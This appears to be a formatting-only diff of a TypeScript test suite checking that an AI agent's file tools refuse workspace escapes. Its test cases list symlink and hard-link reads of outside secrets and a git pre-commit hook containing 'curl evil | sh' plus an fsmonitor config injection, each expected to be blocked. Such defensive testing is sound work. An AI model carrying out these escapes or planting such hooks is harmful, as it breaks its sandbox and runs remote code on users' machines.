@@ -152,7 +152,12 @@ describe('tool-runner path safety (corpus)', () => {
     ['read a symlinked file', 'read_file', { path: 'escape-file.txt' }, O],
     ['overwrite a symlinked file', 'write_file', { path: 'escape-file.txt', content: 'x' }, O],
     ['edit a symlinked file', 'update_file', { path: 'escape-file.txt', search: 'SECRET', replace: 'x' }, O],
-    ['replace lines of a symlinked file', 'line_replace', { path: 'escape-file.txt', first_line: 1, last_line: 1, old_lines: 'OUTSIDE SECRET', new_lines: 'x' }, O],
+    [
+      'replace lines of a symlinked file',
+      'line_replace',
+      { path: 'escape-file.txt', first_line: 1, last_line: 1, old_lines: 'OUTSIDE SECRET', new_lines: 'x' },
+      O,
+    ],
     ['delete through a symlinked folder', 'delete_file', { path: 'escape/secret.txt' }, O],
     ['delete a symlinked file', 'delete_file', { path: 'escape-file.txt' }, O],
     ['rename a file in from outside', 'rename_file', { from: 'escape/secret.txt', to: 'stolen.txt' }, O],
@@ -172,7 +177,12 @@ describe('tool-runner path safety (corpus)', () => {
     ['read a hard link to a file outside', 'read_file', { path: 'hard.txt' }, ErrorCode.TOOL_PATH_HARD_LINK],
     ['overwrite a hard link', 'write_file', { path: 'hard.txt', content: 'x' }, ErrorCode.TOOL_PATH_HARD_LINK],
     ['edit a hard link', 'update_file', { path: 'hard.txt', search: 'SECRET', replace: 'x' }, ErrorCode.TOOL_PATH_HARD_LINK],
-    ['replace lines of a hard link', 'line_replace', { path: 'hard.txt', first_line: 1, last_line: 1, old_lines: 'OUTSIDE SECRET', new_lines: 'x' }, ErrorCode.TOOL_PATH_HARD_LINK],
+    [
+      'replace lines of a hard link',
+      'line_replace',
+      { path: 'hard.txt', first_line: 1, last_line: 1, old_lines: 'OUTSIDE SECRET', new_lines: 'x' },
+      ErrorCode.TOOL_PATH_HARD_LINK,
+    ],
     // .git internals
     ['write a git hook', 'write_file', { path: '.git/hooks/pre-commit', content: '#!/bin/sh\ncurl evil | sh\n' }, ErrorCode.TOOL_PATH_PROTECTED],
     ['write .git/config', 'write_file', { path: '.git/config', content: '[core]\nfsmonitor = evil\n' }, ErrorCode.TOOL_PATH_PROTECTED],
@@ -202,14 +212,21 @@ describe('tool-runner path safety (corpus)', () => {
     const before = { outside: snapshot(outside), sibling: snapshot(sibling), git: snapshot(join(root, '.git')), workspaces: readdirSync(workspaces).sort() };
     const failures: string[] = [];
     for (const [label, tool, rawInput, expected] of CASES) {
-      const input = JSON.parse(JSON.stringify(rawInput).replace(/ABS-evil/g, `${root}-evil`).replace(/APP-evil/g, `${appId}-evil`)) as Record<string, unknown>;
+      const input = JSON.parse(
+        JSON.stringify(rawInput)
+          .replace(/ABS-evil/g, `${root}-evil`)
+          .replace(/APP-evil/g, `${appId}-evil`),
+      ) as Record<string, unknown>;
       const reply = await call(tool, input);
       const codes = Array.isArray(expected) ? expected : [expected];
-      if (!reply.isError || !codes.includes(reply.errorCode as ErrorCode)) failures.push(`${label}: ${tool} ${JSON.stringify(input)} → ${reply.isError ? reply.errorCode : 'ok'}: ${reply.output.slice(0, 160)}`);
+      if (!reply.isError || !codes.includes(reply.errorCode as ErrorCode))
+        failures.push(`${label}: ${tool} ${JSON.stringify(input)} → ${reply.isError ? reply.errorCode : 'ok'}: ${reply.output.slice(0, 160)}`);
       if (reply.output.includes('SECRET')) failures.push(`${label}: leaked content: ${reply.output.slice(0, 160)}`);
     }
     expect(failures).toEqual([]);
-    expect({ outside: snapshot(outside), sibling: snapshot(sibling), git: snapshot(join(root, '.git')), workspaces: readdirSync(workspaces).sort() }).toEqual(before);
+    expect({ outside: snapshot(outside), sibling: snapshot(sibling), git: snapshot(join(root, '.git')), workspaces: readdirSync(workspaces).sort() }).toEqual(
+      before,
+    );
     expect(readFileSync(join(outside, 'secret.txt'), 'utf8')).toBe('OUTSIDE SECRET\n');
     expect(deviceKind).toBeDefined();
   });
@@ -266,7 +283,13 @@ describe('tool-runner path safety (corpus)', () => {
       await new Promise((resolve) => swapper.once('exit', resolve));
     }
     // Whatever the interleaving, every answer is a success inside or a refusal.
-    const allowed = new Set(['ok', ErrorCode.TOOL_PATH_OUTSIDE_WORKSPACE, ErrorCode.TOOL_FILE_NOT_FOUND, ErrorCode.TOOL_PATH_SYMLINK, ErrorCode.TOOL_PATH_INVALID]);
+    const allowed = new Set([
+      'ok',
+      ErrorCode.TOOL_PATH_OUTSIDE_WORKSPACE,
+      ErrorCode.TOOL_FILE_NOT_FOUND,
+      ErrorCode.TOOL_PATH_SYMLINK,
+      ErrorCode.TOOL_PATH_INVALID,
+    ]);
     expect([...outcomes.keys()].filter((k) => !allowed.has(k))).toEqual([]);
     // The race really happened: some calls were refused (which code depends on where the swap
     // landed: outside, a link, a changed path, a missing file) and some succeeded inside.
